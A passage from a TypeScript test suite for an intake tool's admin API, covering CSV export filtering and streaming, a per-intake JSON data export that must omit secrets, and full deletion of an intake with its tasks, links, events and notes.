      { name: 'Klant Anna', status: 'client', createdAt: day('2026-03-11T12:00:00Z') },
      { name: 'Klant Oud', status: 'client', createdAt: day('2025-03-11T12:00:00Z') },
      { name: 'Nieuw Zoë', status: 'new', createdAt: day('2026-03-12T12:00:00Z') },
    ]);
    const va = await signInAsVa(t);
    const namesOf = async (query: string) => (await csvOf(va, query)).rows.slice(1).map((row) => row[1]);
    expect(await namesOf('status=client&from=2026-01-01&sort=name')).toEqual(['Klant Anna', 'Klant Zoë']);
    expect(await namesOf('q=zoe&sort=oldest')).toEqual(['Klant Zoë', 'Nieuw Zoë']);
    expect(await namesOf('q=%25')).toEqual([]);
    await expect422(await va.request(`${BASE}/export.csv?status=gone`), 'status.0');
    await expect422(await va.request(`${BASE}/export.csv?cursor=abc`), 'cursor');
  });

  test('streams every row of a large export once, in batches', async () => {
    const ids = await insertIntakeRows(
      t.db,
      Array.from({ length: 1234 }, (_, i) => ({ createdAt: day(`2026-04-0${(i % 5) + 1}T10:00:00Z`) })),
    );
    const va = await signInAsVa(t);
    const { rows } = await csvOf(va);
    const exported = rows.slice(1).map((row) => row.at(-1));
    expect(exported).toHaveLength(1234);
    expect(new Set(exported)).toEqual(new Set(ids));
  });

  test('gives way between batches: a request that arrives during a long export is served before it ends', async () => {
    await insertIntakeRows(t.db, Array.from({ length: 50 }, () => ({})));
    const order: string[] = [];
    const sink = {
      aborted: false,
      async write() {},
    };
    // A request arriving from the network is a macrotask: it waits for the event loop. On SQLite
    // the batches are promises that settle at once, so without a real pause between them the
    // whole export would run before the request is even read.
    const exported = writeInboxCsv(t.deps, { sort: 'newest' }, sink, 5).then(() => order.push('export'));
    const arrived = new Promise((resolve) => setTimeout(resolve, 0))
      .then(() => t.app.request('/api/health'))
      .then(() => order.push('health'));
    await Promise.all([exported, arrived]);
    expect(order).toEqual(['health', 'export']);
  });

  test('stops reading the database when the client goes away', async () => {
    await insertIntakeRows(t.db, Array.from({ length: 50 }, () => ({})));
    const chunks: string[] = [];
    const sink = {
      aborted: false,
      async write(chunk: string) {
        chunks.push(chunk);
        if (chunks.length === 2) sink.aborted = true;
      },
    };
    await writeInboxCsv(t.deps, { sort: 'newest' }, sink, 10);
    // The header and one batch of 10; the other four batches were never read.
    expect(chunks).toHaveLength(2);
    expect(chunks[1]!.split('\r\n').filter(Boolean)).toHaveLength(10);
  });
});

describe('GET /api/admin/intakes/:id/export.json', () => {
  test('downloads everything stored about the intake, without secrets', async () => {
    const { intakeId, resultToken, input } = await submitted();
    await t.app.request(`/api/results/${resultToken}`);
    const va = await signInAsVa(t);
    await va.request(`${BASE}/${intakeId}/status`, { method: 'PATCH', json: { status: 'contacted' } });
    await va.request(`${BASE}/${intakeId}/notes`, { method: 'POST', json: { body: 'Gebeld' } });

    const response = await va.request(`${BASE}/${intakeId}/export.json`);
    expect(response.headers.get('content-disposition')).toMatch(
      new RegExp(`^attachment; filename="intake-${intakeId}-\\d{4}-\\d{2}-\\d{2}\\.json"$`),
    );
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    const text = await response.text();
    const data = JSON.parse(text) as IntakeDataExport;
    const stored = await t.db.prisma.intake.findUniqueOrThrow({
      where: { id: intakeId },
      include: { snapshot: true, resultLinks: true, tasks: true },
    });

    expect(data.format).toBe('delegatiescan.intake-export');
    expect(data.intake).toMatchObject({
      id: intakeId,
      status: 'contacted',
      answers: input,
      result: stored.snapshot?.result,
      contact: { name: 'Zoë de Vries', email: 'zoe@example.nl', company: 'Zoë Coaching', phone: null },
      consent: { privacyConsentVersion: stored.privacyConsentVersion, privacyConsentAt: stored.privacyConsentAt.toISOString() },
    });
    expect(data.tasks).toHaveLength(stored.tasks.length);
    expect(data.notes).toMatchObject([{ body: 'Gebeld', author: { name: 'Sanne Jansen' } }]);
    expect(data.timeline.map((event) => event.type)).toEqual([
      'submitted',
      'email-queued',
      'email-queued',
      'result-opened',
      'status-changed',
      'note-added',
    ]);
    expect(data.resultLinks).toEqual([
      expect.objectContaining({ id: stored.resultLinks[0]!.id, purpose: 'submit', openCount: 1, lastOpenedAt: expect.any(String) }),
    ]);
    for (const secret of [stored.resultLinks[0]!.tokenHash, stored.idempotencyKeyHash, stored.requestFingerprint, resultToken]) {
      expect(text).not.toContain(secret);
    }
    expect(text).not.toMatch(/tokenHash|idempotencyKey|fingerprint/i);
  });

  test('an unknown id is a 404', async () => {
    const va = await signInAsVa(t);
    await expect404(await va.request(`${BASE}/nope/export.json`));
  });
});

describe('DELETE /api/admin/intakes/:id', () => {
  test('erases the intake with its tasks, links, events and notes for good', async () => {
    const { intakeId, resultToken } = await submitted();
    const keep = await submitted({ email: 'blijft@example.nl' });
    const va = await signInAsVa(t);
    await va.request(`${BASE}/${intakeId}/notes`, { method: 'POST', json: { body: 'Weg ermee' } });
    await va.request(`${BASE}/${intakeId}/status`, { method: 'PATCH', json: { status: 'not-a-fit' } });
    await va.reauthenticate();

    expect(await json(await va.request(`${BASE}/${intakeId}`, { method: 'DELETE' }))).toEqual({ erased: true });

    expect(await t.db.prisma.intake.count({ where: { id: intakeId } })).toBe(0);
    expect(await t.db.prisma.intakeTask.count({ where: { intakeId } })).toBe(0);
    expect(await t.db.prisma.resultLink.count({ where: { intakeId } })).toBe(0);
    expect(await t.db.prisma.intakeEvent.count({ where: { intakeId } })).toBe(0);
    expect(await t.db.prisma.intakeNote.count({ where: { intakeId } })).toBe(0);
    await expect404(await va.request(`${BASE}/${intakeId}`));
    expect((await t.app.request(`/api/results/${resultToken}`)).status).toBe(404);
    await expect404(await va.request(`${BASE}/${intakeId}`, { method: 'DELETE' }));
    expect((await inbox(va)).items.map((item) => item.id)).toEqual([keep.intakeId]);
  });
});
